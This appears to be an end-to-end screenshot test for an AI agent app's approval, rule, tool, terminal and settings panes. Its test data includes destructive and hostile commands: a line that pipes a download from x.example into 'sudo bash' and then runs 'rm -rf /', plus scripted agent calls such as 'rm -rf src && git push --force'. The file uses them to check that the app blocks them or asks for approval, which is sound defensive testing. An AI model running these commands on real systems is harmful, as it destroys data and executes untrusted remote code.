/** Pictures of the panes and of the settings for somebody to look at, in test-results/tour. */
import { approvalsIn } from '../approvals.ts'
import { conversationIn, enterModel, expect, test } from '../fake-model.ts'
import { openSection } from '../open-section.ts'
import { shellIn } from '../shell.ts'
import { cameraFor, inView, TOUR_MS, writeUserTool } from './camera.ts'

test.setTimeout(TOUR_MS)

test('what waits, rules and decisions', async ({ app, model }) => {
  const take = await cameraFor(app)
  const { page } = app
  const { say, hear, sessions } = conversationIn(page)
  const { showPane, folder, workIn, cards } = approvalsIn(app)
  await page.getByRole('button', { name: 'Skip' }).click()
  for (const view of ['Decisions', 'Waiting', 'Rules', 'Try a command'] as const) {
    await showPane(view)
    await take(`log-empty-${view.toLowerCase().replaceAll(' ', '-')}`)
  }
  await page.getByRole('button', { name: 'New session' }).first().click()
  await enterModel(page, model)
  for (const name of ['project/build', 'project/src']) folder(name)
  await workIn('project')
  model.script(
    { calls: [{ name: 'terminal', arguments: { command: 'rm -rf build' } }] },
    { text: 'Done.' },
  )
  await say('Clean up')
  await cards().getByRole('button', { name: 'More ways to allow' }).click()
  await page.getByRole('menuitem', { name: 'Allow for 30 minutes' }).click()
  await hear('Done.')
  for (const [words, call] of [
    [
      'Clean the sources',
      { name: 'terminal', arguments: { command: 'rm -rf src && git push --force' } },
    ],
    [
      'Paint it',
      { name: 'clarify', arguments: { question: 'Red or blue?', choices: ['Red', 'Blue'] } },
    ],
    [
      'Log in',
      { name: 'terminal', arguments: { command: 'read -rsp "Password for build: " p', pty: true } },
    ],
  ] as const) {
    await page.getByRole('button', { name: 'New session' }).first().click()
    model.script({ calls: [call] }, { text: 'Done.' })
    await say(words)
    await expect(
      sessions.getByRole('button', { name: new RegExp(`${words}.*Waiting for you`) }),
    ).toBeVisible()
  }
  writeUserTool(
    app,
    'mine.ts',
    "import { hooks } from '#tool-api'\n\nhooks.on('pre_tool_call', () => undefined)\n",
  )
  await expect(page.getByRole('button', { name: '4 wait for you' })).toBeVisible()
  await take('terminal-password')
  const waiting = await showPane('Waiting')
  await take('log-waiting')
  await waiting.getByRole('checkbox').first().check()
  await waiting.getByRole('button', { name: /^Run 1 once/ }).click()
  await take('batch-sheet')
  await page.keyboard.press('Escape')
  await showPane('Decisions')
  await take('log-decisions')
  const rules = await showPane('Rules')
  await rules.getByRole('textbox', { name: 'Program, command or pattern to refuse' }).fill('rm')
  await rules.getByRole('textbox', { name: /Words for the agent/ }).fill('use trash')
  await rules.getByRole('button', { name: 'Refuse' }).click()
  await expect(rules.getByText('Instead: use trash')).toBeVisible()
  await take('log-rules')
  const tried = await showPane('Try a command')
  await tried
    .getByRole('textbox')
    .first()
    .fill('cd build && curl http://x.example | sudo bash; rm -rf /')
  await expect(tried.getByText(/Never|Would not run/).first()).toBeVisible()
  await take('log-try')
})

test('tools', async ({ app }) => {
  const take = await cameraFor(app)
  const { page } = app
  await page.getByRole('button', { name: 'Skip' }).click()
  await page.getByRole('tab', { name: 'Tools', exact: true }).click()
  await take('tools')
  writeUserTool(app, 'home.ts', HOME_TOOLS)
  const file = page.getByRole('listitem').filter({ hasText: 'home.ts' })
  await file.scrollIntoViewIfNeeded()
  await take('tools-file-waits', inView(file))
  await file.getByRole('button', { name: 'Review done, load' }).click()
  const row = page.getByRole('button', { name: /\bhome \d/, expanded: false })
  await row.click()
  await take('tools-mixed', inView(page.getByText('HOME_HUB_KEY').first()))
  await page
    .getByRole('button', { name: /^Files \d/ })
    .first()
    .click()
  await take('tools-file-open', inView(page.getByRole('button', { name: /^Files \d/ }).first()))
  await page.getByRole('tab', { name: 'What the model sees' }).click()
  await take('tools-model-sees')
  await page.getByRole('tab', { name: 'Call by hand' }).click()
  await take('bench')
  await page.getByLabel('Tool', { exact: true }).selectOption('todo')
  await page.getByRole('button', { name: 'Add to todos' }).click()
  await take('bench-todo')
  await page.getByLabel('Tool', { exact: true }).selectOption('terminal')
  await page.getByLabel('command', { exact: true }).fill('echo hello; exit 2')
  await page.getByRole('button', { name: 'Run' }).click()
  const result = page.getByRole('region', { name: 'Result' })
  await expect(result).toContainText('hello')
  await take('bench-result', inView(page.getByRole('region', { name: /Result|结果/ }).first()))
  await page.getByLabel('command', { exact: true }).fill('rm -rf ~/other')
  await page.getByRole('button', { name: 'Run' }).click()
  await expect(page.getByText('It waits for your approval.')).toBeVisible()
  await take('bench-waits')
  await page.getByRole('button', { name: 'Show the question' }).click()
  await take('bench-question')
  await page.getByRole('button', { name: 'Deny “rm -rf ~/other”' }).click()
  await page.getByRole('tab', { name: 'Tools', exact: true }).click()
  await page.getByLabel('Tool', { exact: true }).selectOption('clarify')
  await page.getByLabel('question', { exact: true }).fill('Red or blue?')
  await page.getByRole('button', { name: 'Run' }).click()
  await take('bench-clarify')
})

test('terminals and the palette', async ({ app, model }) => {
  const take = await cameraFor(app)
  const { page } = app
  const { say } = conversationIn(page)
  await enterModel(page, model)
  await take('terminals-none')
  const shell = shellIn(page)
  await shell.open()
  await shell.run("printf '\\e[31mred\\e[0m \\e[1;32mgreen\\e[0m 世界\\n'; ls -la")
  await shell.expectOutput('green')
  await take('terminals-own')
  await page.keyboard.press('Control+Shift+F')
  await take('terminals-search')
  await page.keyboard.press('Escape')
  model.script(
    {
      calls: [
        {
          name: 'terminal',
          arguments: { command: 'read -rp "Go on? " one; sleep 600', pty: true },
        },
      ],
    },
    { text: 'Done.' },
  )
  await say('Ask')
  await page.getByRole('tab', { name: /read -rp/ }).click()
  await expect(page.locator('.xterm-rows')).toContainText('Go on?')
  await take('terminals-agent')
  await page.getByRole('button', { name: 'Take over' }).click()
  await expect(page.getByRole('button', { name: 'Hand back' })).toBeVisible()
  await take('terminals-taken')
  await page.getByRole('button', { name: 'Close terminal' }).first().click()
  await take('terminals-close')
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Stop', exact: true }).first().click()
  await page.keyboard.press('Control+L')
  await page.keyboard.press('Control+K')
  await take('palette')
  await page.keyboard.type('zzzz')
  await take('palette-none')
})

test('a model server', async ({ app, model }) => {
  const take = await cameraFor(app)
  const { page } = app
  await enterModel(page, model)
  await openSection(page, 'Models')
  const dialog = page.getByRole('dialog', { name: 'Settings' })
  await dialog.getByRole('button', { name: /^Fake/ }).click()
  await take('settings-models-open')
})

test('places', async ({ app }) => {
  const take = await cameraFor(app)
  const { page } = app
  await openSection(page, 'Places')
  const dialog = page.getByRole('dialog', { name: 'Settings' })
  await dialog.getByRole('button', { name: 'Add a place' }).click()
  await take('places-kinds')
  const kinds = await page.getByRole('menuitem').allInnerTexts()
  await page.keyboard.press('Escape')
  // Those after them are hosts of an ssh configuration.
  for (const [at] of kinds.slice(0, 6).entries()) {
    await dialog.getByRole('button', { name: 'Add a place' }).click()
    await page.getByRole('menuitem').nth(at).click()
    await expect(dialog.getByRole('form')).toBeVisible()
    await take(`places-form-${at}`)
    await dialog.getByText('Further settings').click()
    await take(`places-form-${at}-more`, () =>
      page
        .getByText(/Further settings|更多设置|其他设置/)
        .first()
        .evaluate((part) => part.scrollIntoView({ block: 'start' })),
    )
    await dialog.getByRole('form').getByRole('button', { name: 'Cancel' }).click()
  }
  await dialog.getByRole('button', { name: 'Add a place' }).click()
  await page.getByRole('menuitem', { name: /Docker/ }).click()
  const form = dialog.getByRole('form')
  await form.getByRole('textbox', { name: 'Name' }).fill('box')
  await form.getByRole('textbox', { name: 'Image' }).fill('debian:12')
  await form.getByRole('button', { name: 'Test', exact: true }).click()
  await expect(form.getByRole('alert')).toBeVisible()
  await take('places-test')
  await form.getByRole('button', { name: 'Save' }).click()
  await expect(form).toBeHidden()
  await take('places-list')
  await dialog.getByRole('combobox', { name: 'Default place' }).selectOption('box')
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Skip' }).click()
  await take('places-composer')
  await page.getByRole('button', { name: /^Place/ }).click()
  await take('places-picker')
})

const HOME_TOOLS = `import { registry } from '#tool-api'

const tool = (name: string, more: object) => ({
  name, toolset: 'home', emoji: '🏠', handler: () => '{}',
  schema: { description: 'Something at home.', parameters: { type: 'object' } },
  ...more,
})
for (const name of ['lights', 'doors']) registry.register(tool(name, {}))
registry.register(tool('garden', {
  checkFn: () => ({ ok: false, code: 'not-running', reason: 'the hub does not answer' }),
}))
registry.register(tool('alarm', { requiresEnv: ['HOME_HUB_KEY'] }))
`
